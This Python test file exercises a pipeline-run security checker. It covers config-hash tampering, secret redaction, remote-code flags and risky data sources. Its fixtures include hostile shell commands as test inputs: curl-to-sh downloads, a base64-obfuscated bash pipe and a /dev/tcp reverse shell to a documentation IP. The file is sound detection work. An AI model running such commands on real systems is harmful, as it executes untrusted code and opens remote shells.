"""The check of a pipeline run, beyond the examples of its rules."""

from __future__ import annotations

import hashlib
import json

import msgspec
import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.checks.pipelines import check_pipeline
from agents.domain.detection import to_finding
from agents.domain.knowledge import MemoryKnowledge
from schemas.events import ComponentRef, DataSource, PipelineRun
from schemas.intel import IntelFact, IntelKind
from schemas.severity import Severity, Status, worst
from tests.agents.checks.pipelines.runs import COMMIT, HERE, ids, loud, run, severity_of, status
from tests.agents.examples import TENANT, event_of
from tests.depth import examples
from tests.each import each
from tests.samples import sample


def raw_config(config: bytes, **data):
    event = event_of("pipelines", data)
    changed = msgspec.structs.replace(event.data, config=msgspec.Raw(config))
    return msgspec.structs.replace(event, data=changed)


def test_the_native_sample_is_harmless_when_its_policy_is_known():
    document = orjson.loads(sample("events", "pipeline-run.json"))
    policy = orjson.loads(sample("events", "policy.json"))
    outcome = run(document["data"], policy=policy)
    assert not outcome.detections
    assert worst(check.status for check in outcome.checks) is Status.PASS


@pytest.mark.parametrize(
    "config",
    [
        b'{"lr": 2e-05, "n": 123456789012345678901234567890, "x": 1E400, "nan": NaN}',
        b'{"b": 1, "a": {"z": "\\u00e9", "y": "\xc3\xa9"}, "b": 2.0}',
        b' { "s" : "\\ud800", "t":true , "u" : [1.0, -0.0, 1e16, 1e-7] } ',
        b"[]",
        b'"text"',
    ],
)
def test_config_hash_equals_that_of_python(config):
    expected = hashlib.sha256(json.dumps(json.loads(config), sort_keys=True).encode()).hexdigest()
    good = raw_config(config, expected_config_hash=expected.upper())
    assert "TW-PIPE-CONFIG-TAMPERED" not in ids(check_pipeline(good, MemoryKnowledge()))
    bad = raw_config(config, expected_config_hash=expected[:-1] + "x")
    outcome = check_pipeline(bad, MemoryKnowledge())
    assert "TW-PIPE-CONFIG-TAMPERED" in ids(outcome)
    assert status(outcome, "config_integrity") is Status.FAIL


@pytest.mark.parametrize(
    "config",
    [
        b"[" * 5_000 + b"]" * 5_000,
        b'{"a": ' + b"9" * 5_000 + b"}",
        b'{"a": "' + b"x" * (1 << 20) + b'"}',
        b'{"a": \xff}',
        b"{",
        b"[" + b"1," * 150_000 + b"1]",
    ],
    ids=["deep", "huge integer", "large", "not UTF-8", "cut off", "many values"],
)
def test_a_config_out_of_bounds_is_incomplete_and_never_clean(config):
    outcome = check_pipeline(raw_config(config, expected_config_hash="0" * 64), MemoryKnowledge())
    worst_of = worst(check.status for check in outcome.checks)
    assert worst_of.rank >= Status.INCOMPLETE.rank
    assert status(outcome, "secrets") is Status.INCOMPLETE


def test_an_error_in_the_config_erases_no_finding_of_the_event():
    event = raw_config(b"{", data_sources=[{"url": "http://data.example/x"}])
    outcome = check_pipeline(event, MemoryKnowledge())
    assert {"TW-PIPE-INSECURE-SOURCE", "TW-PIPE-UNVERIFIED-SOURCE"} <= ids(outcome)


def test_without_an_expected_hash_the_config_becomes_a_baseline_of_the_tenants_own_pipeline():
    outcome = run({"config": {"a": 1}})
    baseline = [s for s in outcome.sightings if s.kind == "config"]
    expected = hashlib.sha256(b'{"a": 1}').hexdigest()
    assert [(s.component, s.digest) for s in baseline] == [(f"pipeline:@{TENANT}/train", expected)]
    outcome = run({"config": {"a": 1}, "expected_config_hash": expected})
    assert not [s for s in outcome.sightings if s.kind == "config"]


def test_a_regression_after_an_input_changed_is_held_with_more_confidence():
    url = "https://d.example/x"
    config = {"data_sources": [{"url": url, "verified": True, "sha256": "1" * 64}]}
    source = {"url": url, "verified": True, "digests": {"sha256": "2" * 64}}
    bad = {"evaluation": {"suite": "s", "score": 0.5, "baseline": 0.9}}
    plain = next(d for d in run(bad).detections if d.rule_id == "TW-PIPE-REGRESSION")
    changed = next(
        d
        for d in run({**bad, "config": config, "data_sources": [source]}).detections
        if d.rule_id == "TW-PIPE-REGRESSION"
    )
    assert plain.confidence is None
    assert changed.confidence == 0.9


def test_a_secret_appears_nowhere_in_what_goes_out():
    secret = "tR7kLq9vX2mZp4Wd"
    event = event_of(
        "pipelines",
        {
            "config": {
                "db_password": secret,
                "env": [{"name": "API_TOKEN", "value": secret}],
                "args": [f"--auth-token={secret}9"],
                "store": f"postgresql://u:{secret}@db.example/x",
            },
            "data_sources": [{"url": f"https://u:{secret}@d.example/x?sig={secret}"}],
        },
    )
    outcome = check_pipeline(event, MemoryKnowledge())
    places = {d.evidence.get("path") for d in outcome.detections if d.rule_id == "TW-PIPE-SECRET"}
    assert {"db_password", "env[0].value", "args[0]", "store", None} <= places
    findings = [to_finding(d, event, component=event.subject) for d in outcome.detections]
    text = orjson.dumps([findings, outcome.checks, outcome.sightings], default=msgspec.to_builtins)
    assert secret.encode() not in text


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(["data_sources", "url", "model", "revision", "args", "token", "name"])
            | st.text(max_size=8),
            inner,
            max_size=4,
        )
    ),
    max_leaves=15,
)


@settings(max_examples=examples(60), deadline=None)
@given(config=JSON, url=st.text(max_size=60), component=st.text(max_size=40), digest=st.text())
def test_no_run_crashes_the_check_and_the_same_run_says_the_same(config, url, component, digest):
    text = json.dumps(config).encode("utf-8", "surrogatepass")
    run_data = PipelineRun(
        pipeline="p",
        config=msgspec.Raw(text),
        expected_config_hash=digest,
        data_sources=(
            DataSource(url=url, digests={"sha256": digest}),
            DataSource(url="https://" + url),
        ),
        inputs=(ComponentRef(component=component), ComponentRef(component=f"model:{component}")),
    )
    event = msgspec.structs.replace(event_of("pipelines", {}), data=run_data)
    knowledge = MemoryKnowledge()
    knowledge.set_fact("domain:x", IntelFact(key="domain:x", kind=IntelKind.BLOCKED))
    first, second = check_pipeline(event, knowledge), check_pipeline(event, knowledge)
    assert first == second
    assert len({s.id for s in first.sightings}) == len(first.sightings)


KNOWN_HASH = hashlib.sha256(json.dumps({"a": 1}, sort_keys=True).encode()).hexdigest()


EVIL = "http://localhost.evil.example/x"


HUGGING = "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567"


@each(
    ("data", "rule"),
    [
        ({"data_sources": [{"url": "http://localhost:9000/x"}]}, None),
        ({"data_sources": [{"url": "http://minio.ml.svc.cluster.local:9000/b"}]}, None),
        ({"data_sources": [{"url": "http://10.1.2.3:9000/b"}]}, None),
        ({"data_sources": [{"url": EVIL, "verified": True}]}, "INSECURE-SOURCE"),
        ({"data_sources": [{"url": "https://169.254.169.254/", "verified": True}]}, "ODD-HOST"),
        ({"data_sources": [{"url": "http://localhost/x", "verified": False}]}, "UNVERIFIED-SOURCE"),
        ({"config": {"a": 1.0}, "expected_config_hash": KNOWN_HASH}, "CONFIG-TAMPERED"),
        ({"config": {"a": 1}, "expected_config_hash": KNOWN_HASH.upper()}, None),
        ({"evaluation": {"suite": "toxicity", "score": 0.1, "baseline": 0.2}}, None),
        ({"evaluation": {"suite": "jailbreak", "score": 0.4, "baseline": 0.1}}, "REGRESSION"),
        ({"evaluation": {"suite": "q", "score": 0.892, "baseline": 0.9, "passed": True}}, None),
        ({"config": {"command": "curl -k https://data.acme.example/x"}}, "TLS-OFF"),
        ({"config": {"faiss": {"allow_dangerous_deserialization": True}}}, "UNSAFE-LOADER"),
        ({"config": {"command": "curl -sSL https://get.example/x.sh | sh"}}, "UNSAFE-LOADER"),
        ({"config": {"args": ["sh", "-c", "curl http://a.example/x | sh"]}}, "REMOTE-SCRIPT"),
        ({"config": {"run": "curl http://10.1.2.3/x | sh"}}, "REMOTE-SCRIPT"),
        ({"config": {"run": "curl http://localhost:8080/x | sh"}}, "UNSAFE-LOADER"),
        ({"config": {"env": [{"name": "TRUST_REMOTE_CODE", "value": "1"}]}}, "REMOTE-CODE"),
        ({"config": {"trust_remote_code": False, "args": ["--no-trust-remote-code"]}}, None),
        ({"config": {"args": [f"--hf-token={HUGGING}"]}}, "SECRET"),
        ({"config": {"commit": COMMIT, "dataset_sha256": KNOWN_HASH, "max_tokens": 9}}, None),
        ({"config": {"run_id": "3f5e1c0a-9a51-4f6e-8f0e-2f2a7c1d9b10"}}, None),
    ],
)  # fmt: skip
def test_ordinary_runs_are_distinguished_from_similar_attacks(data, rule):
    found = loud(run(data))
    assert found == (set() if rule is None else {f"TW-PIPE-{rule}"})


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("curl http://203.0.113.7/x | sh", Severity.CRITICAL),
        ("wget -qO- https://203.0.113.7:8443/x | python3", Severity.CRITICAL),
        ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", Severity.CRITICAL),
        ("echo Y3VybA== | base64 -d | bash", Severity.CRITICAL),
        ("curl http://mirror.example/x | sh", Severity.HIGH),
        ("curl http://10.1.2.3/x | sh", Severity.HIGH),
    ],
)
def test_a_script_from_a_bare_address_or_a_shell_to_outside_is_critical(command, severity):
    found = run({"config": {"templates": [{"container": {"args": ["sh", "-c", command]}}]}})
    assert [(detection.rule_id, severity_of(detection)) for detection in found.detections] == [
        ("TW-PIPE-REMOTE-SCRIPT", severity)
    ]


@pytest.mark.parametrize(
    ("config", "inputs", "severity"),
    [
        ({"trust_remote_code": True}, [], Severity.HIGH),
        ({"trust_remote_code": True, "model": "a/b", "revision": "main"}, [], Severity.HIGH),
        ({"trust_remote_code": True, "model": "a/b", "revision": COMMIT}, [], Severity.MEDIUM),
        (
            {"trust_remote_code": True, "model": "a/b"},
            [{"component": "model:huggingface/a/b", "revision": COMMIT}],
            Severity.MEDIUM,
        ),
    ],
)
def test_remote_code_of_a_commit_can_be_reviewed(config, inputs, severity):
    outcome = run({"config": config, "inputs": inputs})
    (found,) = [
        detection for detection in outcome.detections if detection.rule_id == "TW-PIPE-REMOTE-CODE"
    ]
    assert severity_of(found) is severity


def test_a_regression_names_the_data_that_may_have_caused_it():
    outcome = run(
        {
            "data_sources": [{"url": HERE, "verified": True}],
            "inputs": [{"component": "dataset:acme/reviews", "revision": "v7"}],
            "outputs": [{"component": "model:registry.acme/m", "revision": "1"}],
            "evaluation": {"suite": "b", "score": 0.5, "baseline": 0.9},
        }
    )
    (found,) = [
        detection for detection in outcome.detections if detection.rule_id == "TW-PIPE-REGRESSION"
    ]
    assert set(found.related_keys) == {
        "dataset:data.acme.example/x",
        "dataset:acme/reviews",
        "model:registry.acme/m",
    }
